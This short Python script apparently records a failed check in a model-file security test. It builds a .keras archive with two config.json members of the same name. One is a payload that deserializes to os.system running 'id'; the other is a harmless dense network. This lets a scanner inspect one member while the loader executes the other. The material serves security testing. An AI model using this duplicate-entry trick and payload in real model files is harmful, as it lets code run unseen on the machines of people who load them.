# failed: of two members with one name another is checked than is loaded
import json
import zipfile


def layer(kind, **config):
    return {"module": "keras.layers", "class_name": kind, "config": config}


layers = [
    layer("InputLayer", batch_shape=[None, 784]),
    layer("Dense", units=300, use_bias=False),
    layer("Dense", units=10, use_bias=True),
]
with zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    archive.writestr("config.json", json.dumps({"module": "os", "class_name": "system", "config": {"layers": "id"}}))
    archive.writestr(
        "config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": layers}})
    )
